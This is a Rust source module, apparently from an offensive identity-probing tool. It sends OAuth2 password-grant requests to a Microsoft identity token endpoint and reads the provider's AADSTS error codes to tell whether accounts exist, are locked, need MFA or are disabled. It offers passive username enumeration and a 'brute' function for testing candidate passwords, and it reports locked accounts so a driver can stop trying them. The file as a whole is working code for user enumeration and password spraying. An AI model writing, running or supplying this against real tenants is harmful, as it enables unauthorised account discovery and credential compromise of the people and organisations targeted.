//! OAuth2 password-grant probe.
//!
//! A token request is sent for the identity and the provider's error code is
//! mapped to a [`Verdict`]. The same classification serves passive
//! enumeration (throwaway password) and active password checks; the variants
//! only differ in which verdicts count as a hit.

use crate::endpoints::{
    OAUTH2_CLIENT_ID, OAUTH2_GRANT_TYPE, OAUTH2_RESOURCE, OAUTH2_SCOPE, OAUTH2_TOKEN_URL,
};
use crate::error::{ProbeError, Result};
use crate::outcome::ProbeOutcome;
use crate::transport::{HttpTransport, PostRequest};
use idprobe_core::random::{random_string, THROWAWAY_SECRET_LEN};
use idprobe_core::report::{self, Severity};
use idprobe_core::Verdict;
use serde::Deserialize;
use std::sync::Arc;

/// Provider error codes and what they say about the identity.
///
/// Codes missing from this table classify as [`Verdict::Unknown`].
pub const ERROR_CODE_VERDICTS: &[(&str, Verdict, &str)] = &[
    ("AADSTS50053", Verdict::ExistsLocked, "is locked"),
    (
        "AADSTS50126",
        Verdict::Exists,
        "exists but the password is wrong",
    ),
    (
        "AADSTS50055",
        Verdict::ExistsPasswordExpired,
        "exists but the password is expired",
    ),
    (
        "AADSTS50056",
        Verdict::ExistsNoPassword,
        "exists but there is no password",
    ),
    (
        "AADSTS50014",
        Verdict::Exists,
        "exists but max passthrough auth time exceeded",
    ),
    ("AADSTS50076", Verdict::ExistsMfaRequired, "MFA needed"),
    (
        "AADSTS50057",
        Verdict::ExistsDisabled,
        "exists but the account is disabled",
    ),
    (
        "AADSTS700016",
        Verdict::AppNotFound,
        "application wasn't found in the directory/tenant",
    ),
    ("AADSTS50034", Verdict::DoesNotExist, "does not exist"),
    ("AADSTS90002", Verdict::TenantNotFound, "tenant does not exist"),
];

/// Token endpoint response; only the fields the probe reads.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct TokenResponse {
    /// Access token on success
    pub access_token: Option<String>,
    /// `"<CODE>: <text>"` on failure
    pub error_description: Option<String>,
}

/// What a token response says, before caller-specific validity rules.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokenClassification {
    /// An access token was issued
    Granted,
    /// The provider rejected the request with an error code
    Rejected {
        /// Leading error code
        code: String,
        /// Verdict for the code
        verdict: Verdict,
    },
    /// Neither a token nor an error description was returned
    Empty,
}

impl TokenClassification {
    /// Verdict implied by the classification.
    #[must_use]
    pub fn verdict(&self) -> Verdict {
        match self {
            Self::Granted => Verdict::Exists,
            Self::Rejected { verdict, .. } => *verdict,
            Self::Empty => Verdict::Unknown,
        }
    }
}

/// Leading error code of an error description: the text before the first colon.
#[must_use]
pub fn error_code(description: &str) -> &str {
    description.split(':').next().unwrap_or_default().trim()
}

/// Map a provider error code to a verdict.
#[must_use]
pub fn classify_error_code(code: &str) -> Verdict {
    lookup(code).map_or(Verdict::Unknown, |(_, verdict, _)| *verdict)
}

/// Classify a token endpoint response.
#[must_use]
pub fn classify_response(response: &TokenResponse) -> TokenClassification {
    match response.error_description.as_deref() {
        Some(description) if !description.is_empty() => {
            let code = error_code(description);
            TokenClassification::Rejected {
                code: code.to_string(),
                verdict: classify_error_code(code),
            }
        }
        _ if response.access_token.as_deref().is_some_and(|t| !t.is_empty()) => {
            TokenClassification::Granted
        }
        _ => TokenClassification::Empty,
    }
}

fn lookup(code: &str) -> Option<&'static (&'static str, Verdict, &'static str)> {
    ERROR_CODE_VERDICTS.iter().find(|(known, _, _)| *known == code)
}

fn detail(code: &str) -> &'static str {
    lookup(code).map_or("unknown error", |(_, _, detail)| *detail)
}

/// Hit rule for passive enumeration: any existence verdict is a hit.
#[must_use]
pub fn passive_outcome(identity: &str, classification: &TokenClassification) -> ProbeOutcome {
    let verdict = classification.verdict();
    ProbeOutcome::new(identity, verdict, verdict.is_existence())
}

/// Hit rule for active password checks.
///
/// A token, or an error that can only follow a correct password, is a hit.
/// A wrong password proves existence but is not a hit.
///
/// # Errors
/// Returns [`ProbeError::AccountLocked`] when the account is locked.
pub fn active_outcome(
    identity: &str,
    classification: &TokenClassification,
) -> Result<ProbeOutcome> {
    let verdict = classification.verdict();
    let valid = match classification {
        TokenClassification::Granted => true,
        TokenClassification::Rejected { .. } => match verdict {
            Verdict::ExistsLocked => {
                return Err(ProbeError::AccountLocked {
                    identity: identity.to_string(),
                })
            }
            Verdict::Exists => false,
            other => other.is_existence(),
        },
        TokenClassification::Empty => false,
    };
    Ok(ProbeOutcome::new(identity, verdict, valid))
}

/// Probe built on the OAuth2 password grant.
#[derive(Clone)]
pub struct OAuth2Probe {
    transport: Arc<dyn HttpTransport>,
}

impl OAuth2Probe {
    /// Create a probe on top of a transport.
    #[must_use]
    pub fn new(transport: Arc<dyn HttpTransport>) -> Self {
        Self { transport }
    }

    /// Passive enumeration with a random throwaway password.
    pub async fn enumerate(&self, identity: &str) -> ProbeOutcome {
        let secret = random_string(THROWAWAY_SECRET_LEN);
        let Some(response) = self.request_token(identity, &secret).await else {
            return ProbeOutcome::unknown(identity);
        };

        let classification = classify_response(&response);
        match &classification {
            TokenClassification::Rejected { code, verdict } => {
                let severity = match verdict {
                    Verdict::ExistsLocked => Severity::Info,
                    v if v.is_existence() => Severity::Success,
                    Verdict::DoesNotExist => Severity::Fail,
                    Verdict::Unknown => {
                        report::unrecognized(identity, &format!("unknown error: {code}"));
                        return passive_outcome(identity, &classification);
                    }
                    _ => Severity::Error,
                };
                report::record(severity, identity, detail(code));
            }
            TokenClassification::Granted => {
                report::record(Severity::Success, identity, "token issued");
            }
            TokenClassification::Empty => {
                report::unrecognized(identity, "response had neither token nor error");
            }
        }

        passive_outcome(identity, &classification)
    }

    /// Active check of a caller-supplied password.
    ///
    /// # Errors
    /// Returns [`ProbeError::AccountLocked`] when the provider reports the
    /// account locked, so a driver can stop trying it.
    pub async fn brute(&self, identity: &str, secret: &str) -> Result<ProbeOutcome> {
        let Some(response) = self.request_token(identity, secret).await else {
            return Ok(ProbeOutcome::unknown(identity));
        };

        let classification = classify_response(&response);
        match &classification {
            TokenClassification::Granted => {
                report::record(Severity::Success, identity, "password matched");
            }
            TokenClassification::Rejected { code, verdict } => {
                let severity = match (code.as_str(), verdict) {
                    (
                        _,
                        Verdict::ExistsLocked | Verdict::ExistsMfaRequired | Verdict::ExistsDisabled,
                    ) => Severity::Info,
                    ("AADSTS50126", _) | (_, Verdict::DoesNotExist) => Severity::Fail,
                    (_, Verdict::ExistsPasswordExpired | Verdict::ExistsNoPassword) => {
                        Severity::Success
                    }
                    (_, Verdict::Unknown) => {
                        report::unrecognized(identity, &format!("unknown error: {code}"));
                        return active_outcome(identity, &classification);
                    }
                    _ => Severity::Error,
                };
                report::record(severity, identity, detail(code));
            }
            TokenClassification::Empty => {
                report::unrecognized(identity, "response had neither token nor error");
            }
        }

        let outcome = active_outcome(identity, &classification)?;
        if !outcome.valid {
            report::record(Severity::Debug, identity, "password did not match");
        }
        Ok(outcome)
    }

    /// Send the token request. `None` means no usable response.
    async fn request_token(&self, identity: &str, secret: &str) -> Option<TokenResponse> {
        let form = vec![
            ("client_id".to_string(), OAUTH2_CLIENT_ID.to_string()),
            ("grant_type".to_string(), OAUTH2_GRANT_TYPE.to_string()),
            ("resource".to_string(), OAUTH2_RESOURCE.to_string()),
            ("scope".to_string(), OAUTH2_SCOPE.to_string()),
            ("username".to_string(), identity.to_string()),
            ("password".to_string(), secret.to_string()),
        ];

        let response = match self
            .transport
            .post(PostRequest::form(OAUTH2_TOKEN_URL, form))
            .await
        {
            Ok(response) => response,
            Err(e) => {
                report::record(Severity::Error, identity, &format!("Error on response: {e}"));
                return None;
            }
        };

        match serde_json::from_str(&response.body) {
            Ok(parsed) => Some(parsed),
            Err(e) => {
                report::unrecognized(
                    identity,
                    &format!("unparseable token response (HTTP {}): {e}", response.status),
                );
                None
            }
        }
    }
}
